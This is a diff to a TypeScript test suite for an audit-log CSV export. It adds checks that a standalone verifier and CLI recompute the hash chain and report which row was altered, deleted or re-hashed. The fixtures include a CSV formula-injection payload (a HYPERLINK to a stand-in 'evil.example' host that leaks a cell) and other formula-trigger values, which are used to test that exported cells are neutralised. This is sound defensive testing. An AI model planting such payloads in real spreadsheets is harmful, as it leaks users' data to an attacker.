@@ -1,3 +1,7 @@
+import { execFileSync } from "node:child_process";
+import { mkdtempSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
 import Papa from "papaparse";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { asc, eq } from "drizzle-orm";
@@ -10,6 +14,7 @@ import { AUDIT_CSV_HEADER, AUDIT_EXPORT_PAGE, exportAuditCsv } from "./export";
 import { canonicalJson } from "./hash";
 import { recordAudit } from "./record";
 import { verifyAuditChain } from "./verify";
+import { verifyAuditCsv } from "./verify-csv";
 
 const EVIL_EMAIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
 
@@ -67,6 +72,7 @@ describe("exportAuditCsv", () => {
     expect(file.records.find((r) => r.action === "user.created")).toEqual({
       seq: String(userCreated.seq),
       occurred_at: userCreated.occurredAt.toISOString(),
+      actor_id: admin.id,
       actor_email: "admin@example.test",
       action: "user.created",
       subject_type: "user",
@@ -75,6 +81,7 @@ describe("exportAuditCsv", () => {
       data: '{"a":{"note":"@SUM(1,2)"},"z":"-2+3"}',
       prev_hash: stored[stored.indexOf(userCreated) - 1]!.hash,
       hash: userCreated.hash,
+      hashed_fields_base64: expect.stringMatching(/^W[A-Za-z0-9+/]+=*$/),
     });
     expect(file.records.find((r) => r.action === "setup.admin_created")).toMatchObject({ actor_email: "", subject_type: "", subject_id: "", ip: "" });
     for (const [i, record] of file.records.entries()) {
@@ -151,5 +158,70 @@ describe("exportAuditCsv", () => {
     expect(file.records.map((r) => JSON.parse(r.data).i)).toEqual(Array.from({ length: extra }, (_, i) => i));
     expect(file.chunkCount).toBe(1 + Math.ceil(extra / AUDIT_EXPORT_PAGE)); // header, then one chunk per page
     expect((await verifyAuditChain({ db })).ok).toBe(true);
+  }, 60_000);
+});
+
+describe("verifying an export from the file alone", () => {
+  /** Replaces one cell of one data row (1-based) and writes the file back as the exporter would. */
+  function alterCell(text: string, row: number, column: (typeof AUDIT_CSV_HEADER)[number], value: string): string {
+    const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { newline: "\r\n", skipEmptyLines: true });
+    const [header, ...rows] = parsed.data;
+    rows[row - 1]![header!.indexOf(column)] = value;
+    return `\uFEFF${Papa.unparse([header!, ...rows], { newline: "\r\n", quotes: true })}\r\n`;
+  }
+
+  it("recomputes every hash and link from the rows, despite formula-neutralised cells", async () => {
+    const file = await download();
+    // The file holds cells a spreadsheet would run as formulas, neutralised with a quote.
+    expect(file.text).toContain("'+1");
+    const report = verifyAuditCsv(file.text);
+    expect(report).toMatchObject({ ok: true, rows: file.records.length, complete: true, headHash: file.records.at(-1)!.hash });
+    for (const row of file.rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it("names the first row whose cell was altered", async () => {
+    const file = await download();
+    const at = file.records.findIndex((r) => r.action === "user.created") + 1;
+    const seq = file.records[at - 1]!.seq;
+    for (const [column, value] of [
+      ["action", "user.deleted"],
+      ["actor_email", "someone-else@example.test"],
+      ["subject_id", "'+2"],
+      ["data", '{"a":{"note":"@SUM(1,2)"},"z":"-2+4"}'],
+    ] as const) {
+      const report = verifyAuditCsv(alterCell(file.text, at, column, value));
+      expect(report, column).toMatchObject({ ok: false, row: at, seq });
+      expect(!report.ok && report.reason, column).toContain(column);
+    }
+    // Re-hashing a changed entry breaks the link to the next one.
+    const forged = alterCell(file.text, at, "hash", "f".repeat(64));
+    expect(verifyAuditCsv(forged)).toMatchObject({ ok: false, row: at });
+    // A deleted row breaks the chain at the row after it.
+    const lines = file.text.split("\r\n");
+    const withoutRow = [...lines.slice(0, at), ...lines.slice(at + 1)].join("\r\n");
+    expect(verifyAuditCsv(withoutRow)).toMatchObject({ ok: false, row: at, seq: file.records[at]!.seq });
+  });
+
+  it("npm run audit:verify -- --file says OK for the export and names the altered row", async () => {
+    const file = await download();
+    const dir = mkdtempSync(path.join(tmpdir(), "kiln-audit-"));
+    const good = path.join(dir, "export.csv");
+    const bad = path.join(dir, "altered.csv");
+    writeFileSync(good, file.text);
+    const at = file.records.findIndex((r) => r.action === "auth.signed_in") + 1;
+    writeFileSync(bad, alterCell(file.text, at, "ip", "198.51.100.99"));
+    const run = (csv: string) => {
+      try {
+        return { code: 0, out: execFileSync("npx", ["tsx", "scripts/audit-verify.ts", "--file", csv], { encoding: "utf8", stdio: "pipe" }) };
+      } catch (error) {
+        const e = error as { status: number; stderr: string };
+        return { code: e.status, out: e.stderr };
+      }
+    };
+    const ok = run(good);
+    expect(ok).toMatchObject({ code: 0, out: expect.stringContaining(`audit export OK: ${file.records.length} rows verified, the whole chain`) });
+    const broken = run(bad);
+    expect(broken.code).toBe(1);
+    expect(broken.out).toContain(`at row ${at} (line ${at + 1}, entry #${file.records[at - 1]!.seq}): its ip cell does not match what was hashed`);
   }, 60_000);
 });
